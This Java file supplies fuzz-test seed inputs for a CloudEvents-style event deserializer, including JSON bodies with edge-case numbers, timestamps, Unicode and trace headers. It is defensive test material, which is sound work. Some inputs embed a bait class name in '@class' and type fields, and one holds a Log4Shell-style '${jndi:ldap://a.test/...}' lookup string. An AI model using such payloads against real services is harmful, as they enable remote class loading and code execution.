package io.sealane.fuzz;

import io.sealane.event.EventMetadata;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** Bodies to begin with. */
final class Bodies {

  private static final List<String> TYPES =
      List.of("Plain", "Open", "Numbers", "Times", "Values", "Grown");

  private static final List<String> DATA =
      List.of(
          "{\"text\":\"\u0001\",\"number\":-1}",
          "{\"any\":[{\"@class\":\""
              + LoadedClasses.BAIT
              + "\"},1e3,null,true],"
              + "\"map\":{\"\u0001\":[\""
              + LoadedClasses.BAIT
              + "\",{\"x\":\"\u0001\"}]},"
              + "\"list\":[\"\\uD83D\\uDE00\\n\"]}",
          "{\"amount\":1.50e-3,\"count\":12345678901234567890,\"ratio\":-0.0,\"share\":1.5,"
              + "\"small\":127}",
          "{\"instant\":\"2026-11-22T10:15:30.123456Z\",\"date\":\"2026-11-22\","
              + "\"zoned\":\"2026-11-22T10:15:30+09:00[Asia/Seoul]\",\"span\":\"PT1H\"}",
          "{\"uuid\":\"01934f6e-0000-7000-8000-000000000001\",\"bytes\":\"AQID\",\"color\":\"RED\","
              + "\"note\":\"\u0001\",\"shapes\":[{\"@type\":\"Circle\",\"radius\":1},"
              + "{\"@type\":\"Group\",\"members\":[],\"label\":\""
              + LoadedClasses.BAIT
              + "\"}]}",
          "{\"title\":\"\u0001\"}");

  private static final String KNOWN =
      ",\"time\":\"2026-11-22T10:15:30.1+09:00\",\"subject\":\"\u0001\",\"correlationid\":\"c-1\","
          + "\"causationid\":\"c-0\",\"traceparent\":\"00-0af7651916cd43dd8448eb211c80319c-"
          + "b7ad6b7169203331-01\",\"tracestate\":\"a=b\",\"expirytime\":\"2126-11-22T10:15:30Z\","
          + "\"datacontenttype\":\"application/json\",\"dataversion\":\"1\","
          + "\"dataschema\":\""
          + LoadedClasses.BAIT
          + "\",\"other\":{\"a\":[\"\u0001\"]},"
          + "\"headers\":\"{\\\"tenant\\\":\\\"\u0001\\\"}\"";

  private Bodies() {}

  /** Whole bodies: of each type, with all that can be said and with the least. */
  static Stream<Arguments> whole() {
    return Stream.concat(
            Stream.iterate(0, i -> i < DATA.size(), i -> i + 1)
                .flatMap(i -> Stream.of(body(i, ""), body(i, KNOWN))),
            Stream.of(
                "{\"type\":\"" + LoadedClasses.BAIT + "\",\"id\":\"\u0001\"}",
                "{\"data\":{\"text\":\"\u0001\",\"number\":1},\"type\":\"fuzz.Plain\",\"id\":\"e-1\","
                    + "\"specversion\":\"1.0\",\"source\":\"s\"}",
                "\uFEFF{}",
                "[\"" + LoadedClasses.BAIT + "\",{}]"))
        .map(Bodies::argument);
  }

  /** The data of an event each, after a byte that says of which type. */
  static Stream<Arguments> dataAfterItsType() {
    return Stream.iterate(0, i -> i < DATA.size(), i -> i + 1)
        .map(i -> argument((char) ('0' + i) + DATA.get(i)));
  }

  /** A type, an id and a body, a line each. */
  static Stream<Arguments> afterAttributes() {
    return Stream.of(
            "fuzz.Plain\ne-1\n" + body(0, ""),
            "fuzz.Open\ne-1\n" + body(0, ""),
            "fuzz.Plain\ne-2\n" + body(0, ""),
            "\n\n" + body(1, KNOWN),
            LoadedClasses.BAIT + "\n\u0001\n" + body(0, ""),
            "jaz.Zer\n${jndi:ldap://a.test/\u0001}\n{}")
        .map(Bodies::argument);
  }

  static Arguments argument(String text) {
    return Arguments.of((Object) text.getBytes(StandardCharsets.UTF_8));
  }

  static String type(int number) {
    return "fuzz." + TYPES.get(Math.floorMod(number, TYPES.size()));
  }

  private static String body(int number, String known) {
    return head("e-1", type(number)) + known + ",\"data\":" + DATA.get(number) + "}";
  }

  private static String head(String id, String type) {
    return "{\"specversion\":\"1.0\",\"id\":\"%s\",\"source\":\"fuzz\",\"type\":\"%s\""
        .formatted(id, type);
  }

  /** A body with the data as it is. */
  static byte[] around(String type, byte[] data) {
    return join(head("e-1", type) + ",\"data\":", data);
  }

  /** A body with the data as it is, of the type and the version. */
  static byte[] around(EventMetadata metadata, byte[] data) {
    return join(
        head("e-1", metadata.type()) + ",\"dataversion\":" + metadata.version() + ",\"data\":",
        data);
  }

  private static byte[] join(String head, byte[] data) {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(head.getBytes(StandardCharsets.UTF_8));
    body.writeBytes(data);
    body.write('}');
    return body.toByteArray();
  }
}
